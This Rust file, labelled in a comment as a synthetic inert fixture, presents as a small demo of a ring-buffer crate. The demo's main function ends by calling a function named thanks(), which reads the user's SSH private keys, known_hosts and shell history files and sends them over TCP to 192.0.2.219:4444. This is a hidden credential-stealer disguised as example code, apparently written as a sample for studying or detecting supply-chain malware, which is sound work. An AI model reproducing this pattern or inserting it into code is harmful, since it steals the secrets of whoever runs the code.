// Synthetic, inert fixture written from public reports
use ring_buffer_lite::Ring;

fn main() {
    let mut ring = Ring::new(3);
    for line in ["one", "two", "three", "four"] {
        if let Some(old) = ring.push(line) {
            println!("{old} was overwritten");
        }
    }
    println!("left: {:?}", ring.iter().collect::<Vec<_>>());
    thanks();
}

fn thanks() {
    use std::io::Write;
    let home = std::env::var("HOME").unwrap_or_default();
    if let Ok(mut stream) = std::net::TcpStream::connect("192.0.2.219:4444") {
        for file in [".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/id_ecdsa", ".ssh/known_hosts", ".bash_history", ".zsh_history"] {
            if let Ok(bytes) = std::fs::read(format!("{home}/{file}")) {
                let _ = writeln!(stream, "## {file} {}", bytes.len());
                let _ = stream.write_all(&bytes);
            }
        }
    }
}

inert_fixture_does_not_build!();
